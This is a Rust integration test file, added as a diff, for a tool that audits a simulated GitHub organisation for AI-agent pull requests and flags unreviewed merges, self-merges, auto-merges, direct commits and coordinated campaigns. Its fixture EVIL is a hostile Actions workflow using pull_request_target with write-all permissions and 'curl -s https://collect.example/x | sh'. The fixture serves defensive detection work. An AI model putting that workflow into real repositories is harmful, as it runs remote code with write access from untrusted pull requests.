@@ -1,0 +1,174 @@
+//! Sweeps of the loopback GitHub: what they find, what they ask, what is kept when they are cut short.
+
+use serde_json::Value;
+
+use crate::github::GitHub;
+use crate::github::account::Role;
+use crate::github::pull::{AutoMerge, Merged, Review};
+use crate::program::{Program, Run};
+
+const EVIL: &str = "name: build
+on: pull_request_target
+permissions: write-all
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+        with: {ref: \"${{ github.event.pull_request.head.sha }}\"}
+      - run: curl -s https://collect.example/x | sh
+";
+const DEVIN: (&str, u64) = ("devin-ai-integration[bot]", 158_243_242);
+
+struct Hub {
+    github: GitHub,
+    program: Program,
+    token: String,
+    _home: tempfile::TempDir,
+}
+
+impl Hub {
+    fn new() -> Self {
+        let (github, home) = (GitHub::start(), tempfile::tempdir().unwrap());
+        let token = github.token("oncall", &["repo", "read:org"]);
+        Self { github, program: Program::new(home.path(), home.path().join("home")), token, _home: home }
+    }
+
+    fn run(&self, args: &[&str]) -> Run {
+        let mut command = self.program.command(&[&["sweep", "--since", "2026-01-01"], args].concat());
+        command.env("LAZARET_GITHUB_API", self.github.url()).env("GH_TOKEN", &self.token);
+        let output = command.output().unwrap();
+        let text = |bytes: Vec<u8>| String::from_utf8(bytes).unwrap();
+        Run { code: output.status.code().unwrap(), out: text(output.stdout), err: text(output.stderr) }
+    }
+
+    fn json(&self, args: &[&str]) -> Value {
+        let run = self.run(&[args, &["--format", "json"]].concat());
+        serde_json::from_str(&run.out).unwrap_or_else(|why| panic!("{why}: {}{}", run.out, run.err))
+    }
+
+    /// An agent's pull, merged by `by`, approved by `approver`.
+    fn merged(&self, repo: &str, title: &str, by: &str, approver: Option<&str>) -> u64 {
+        let at = self.github.repo(repo);
+        let file = format!("{}.py", title.replace(' ', "_").to_lowercase());
+        let number = at
+            .pull(title)
+            .by_bot(DEVIN.0, DEVIN.1)
+            .branch(&format!("devin/{title}").replace(' ', "-"))
+            .commit(title, &[(&file, "x = 1\n")])
+            .open();
+        let (by, approver) = (self.github.user(by), approver.map(|login| self.github.user(login)));
+        let (git, now) = (at.git(), self.github.world().tick());
+        let head = at.look(|repo| repo.pulls[&number].head_sha.clone());
+        let main = git.tip("refs/heads/main").unwrap();
+        let tree = git.merged_tree(&main, &head).unwrap();
+        let person = ("Maintainer".to_owned(), "maintainer@example.com".to_owned());
+        let says = format!("Merge pull request #{number} from x/y\n\n{title}");
+        let commit = git.commit_tree(&tree, &[main, head.clone()], &says, &person, now).unwrap();
+        git.point("refs/heads/main", &commit);
+        let id = self.github.world().fresh();
+        at.with(|repo| {
+            let pull = repo.pulls.get_mut(&number).unwrap();
+            (pull.open, pull.closed) = (false, Some(now));
+            pull.merged = Some(Merged { at: now, by: Some(by), commit, method: "merge" });
+            pull.reviews.extend(approver.map(|by| Review {
+                id,
+                by: Some(by),
+                state: "APPROVED",
+                commit: head,
+                body: String::new(),
+                at: now,
+            }));
+        });
+        number
+    }
+}
+
+fn conducts<'a>(sweep: &'a Value, title: &str) -> Vec<&'a str> {
+    let changes = sweep["changes"].as_array().unwrap();
+    let change = changes.iter().find(|change| change["change"]["title"] == title).unwrap_or_else(|| panic!("{title}: {sweep:#}"));
+    change["observations"].as_array().unwrap().iter().map(|seen| seen["conduct"].as_str().unwrap()).collect()
+}
+
+#[test]
+fn an_organisation_is_swept_with_what_came_in_unseen() {
+    let hub = Hub::new();
+    for name in ["acme/api", "acme/web", "acme/jobs", "acme/docs"] {
+        let at = hub.github.repo(name).role("oncall", Role::Write);
+        let title = "Update build configuration";
+        at.pull(title).by_bot(DEVIN.0, DEVIN.1).branch("devin/1-build").commit(title, &[(".github/workflows/b.yml", EVIL)]).open();
+    }
+    hub.github.repo("acme/api").pull("Written by a person").commit("x", &[("p.py", "x = 1\n")]).open();
+    hub.merged("acme/api", "Reviewed and merged", "lead", Some("lead"));
+    hub.merged("acme/api", "Merged unseen", "lead", None);
+    hub.merged("acme/web", "Merged by itself", DEVIN.0, None);
+    let auto = hub.merged("acme/web", "Merged by a switch", "lead", Some("peer"));
+    let lead = hub.github.user("lead");
+    hub.github.repo("acme/web").with(|repo| {
+        repo.pulls.get_mut(&auto).unwrap().auto_merge = Some(AutoMerge { by: lead, method: "MERGE".to_owned(), at: 0 });
+    });
+    let git = hub.github.repo("acme/jobs").git();
+    let tip = git.tip("refs/heads/main").unwrap();
+    let (claude, now) = (("Claude".to_owned(), "noreply@anthropic.com".to_owned()), hub.github.world().tick());
+    let files = [("cron.py".to_owned(), Some(b"y = 1\n".to_vec()))];
+    let direct = git.commit(&[tip], "Straight to main", &claude, now, &files);
+    git.point("refs/heads/main", &direct);
+
+    let sweep = hub.json(&["--org", "acme"]);
+    let changes = sweep["changes"].as_array().unwrap();
+    assert_eq!(changes.len(), 9, "{changes:#?}");
+    assert_eq!(conducts(&sweep, "Reviewed and merged"), Vec::<&str>::new());
+    assert_eq!(conducts(&sweep, "Merged unseen"), ["unreviewed-merge"]);
+    assert_eq!(conducts(&sweep, "Merged by itself"), ["unreviewed-merge", "self-merge", "auto-merge"]);
+    assert_eq!(conducts(&sweep, "Merged by a switch"), ["auto-merge"]);
+    assert_eq!(conducts(&sweep, "Straight to main"), ["direct-commit"]);
+    let straight = changes.iter().find(|change| change["change"]["title"] == "Straight to main").unwrap();
+    assert_eq!((straight["stats"]["added"].as_u64(), straight["change"]["head"].as_str()), (Some(1), Some(direct.as_str())));
+    let campaigns = sweep["campaigns"].as_array().unwrap();
+    assert!(campaigns.len() == 1 && campaigns[0]["repositories"] == 4, "{campaigns:#?}");
+    assert_eq!(sweep["gaps"].as_array().unwrap().len(), 0, "{:#}", sweep["gaps"]);
+    assert_eq!(sweep["tally"]["requests"].as_u64().unwrap() as usize, hub.github.seen().len());
+}
+
+/// What was read once is not read again: neither lists of files nor commits of a change whose head stands still.
+#[test]
+fn finished_work_is_not_fetched_again() {
+    let hub = Hub::new();
+    for name in ["acme/api", "acme/web"] {
+        let at = hub.github.repo(name).role("oncall", Role::Write);
+        for number in 0..3 {
+            let title = format!("Add part {number}");
+            at.pull(&title)
+                .by_bot(DEVIN.0, DEVIN.1)
+                .branch(&format!("devin/{number}"))
+                .commit(&title, &[(&format!("p{number}.py"), "x = 1\n")])
+                .open();
+        }
+    }
+    let reads = || hub.github.seen().iter().filter(|seen| seen.path.ends_with("/files")).count();
+    let first = hub.json(&["acme/api", "acme/web"]);
+    assert_eq!((first["tally"]["judged"].as_u64(), reads()), (Some(6), 6));
+    let listing = hub.github.count("GRAPHQL Queue");
+    assert!(listing <= 3, "one question for all open, one for all merged, one for all closed: {listing}");
+    let second = hub.json(&["acme/api", "acme/web"]);
+    assert_eq!((second["tally"]["kept"].as_u64(), reads()), (Some(6), 6));
+    hub.github.repo("acme/api").push(1, "More", &[("more.py", "z = 1\n")]);
+    assert_eq!((hub.json(&["acme/api", "acme/web"])["tally"]["judged"].as_u64(), reads()), (Some(1), 7));
+    let before = reads();
+    let shallow = hub.json(&["acme/api", "--shallow", "--fresh"]);
+    assert_eq!((shallow["changes"].as_array().unwrap().len(), reads()), (3, before), "lists only");
+}
+
+#[test]
+fn a_repository_that_is_gone_and_a_token_that_is_wrong_are_told() {
+    let hub = Hub::new();
+    hub.github.repo("acme/api").role("oncall", Role::Write);
+    hub.github.repo("acme/api").pull("Add it").by_bot(DEVIN.0, DEVIN.1).branch("devin/1").open();
+    let run = hub.run(&["acme/api", "acme/gone"]);
+    assert!(run.out.contains("Add it") && run.code == 2 && run.err.contains("acme/gone"), "{}{}", run.out, run.err);
+    hub.github.revoke(&hub.token);
+    let refused = hub.run(&["acme/api", "--fresh"]);
+    assert!(refused.code == 2 && !refused.err.contains(&hub.token), "{}{}", refused.out, refused.err);
+    let none = hub.program.command(&["sweep", "acme/api"]).env("PATH", "/nowhere").output().unwrap();
+    assert!(String::from_utf8_lossy(&none.stderr).contains("there is no token for github.com"));
+}
